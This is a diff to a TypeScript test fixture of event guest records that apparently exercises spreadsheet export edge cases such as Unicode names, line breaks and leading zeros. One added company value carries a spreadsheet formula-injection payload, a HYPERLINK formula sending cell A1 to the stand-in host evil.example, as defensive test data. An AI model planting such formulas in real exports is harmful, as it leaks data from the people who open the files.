@@ -12,13 +12,15 @@ export const GUESTS = {
     role: 'CTO, "Founder"',
     phone: '+49 69 123456',
     linkedin: 'https://www.linkedin.com/in/joerg-heinicke',
-    askMeAbout: 'Wein; Segeln\nund Rudern',
+    // one line: the purchase form refuses line breaks (the text rule); the writers' tests cover stored ones
+    askMeAbout: 'Wein; Segeln, "Rudern"',
     consentHost: 'on',
     consentGuests: 'on',
   },
   hostOnly: {
     name: 'Łukasz Żółć',
-    company: 'Żółć & Syn; Sp. z o.o.',
+    // German Excel splits on ";" and would start a cell with the formula (issue 11)
+    company: 'Żółć & Syn;=HYPERLINK("http://evil.example/?x="&A1,"Sp. z o.o.")',
     role: '@Head of Sales',
     phone: '-49 30 98765',
     askMeAbout: '🎉 Pierogi, obviously',
@@ -27,7 +29,8 @@ export const GUESTS = {
   guestsOnly: { name: '李小龙', company: '功夫, Ltd.', role: '师傅', consentHost: '', consentGuests: 'on' },
   none: { name: 'Emoji 🎉 Guest', company: 'Quiet GmbH', consentHost: '' },
   withdrawn: { name: 'Wanda Withdrawn', company: 'Gone AG', consentHost: 'on', consentGuests: 'on' },
-  noShow: { name: 'Nora No-Show', company: 'Absent KG', consentHost: 'on' },
+  // a leading 0 a spreadsheet would drop from a CSV
+  noShow: { name: 'Nora No-Show', company: 'Absent KG', phone: '0171 2345678', consentHost: 'on' },
 } satisfies Record<string, GuestFields>;
 
 export type GuestKey = keyof typeof GUESTS;
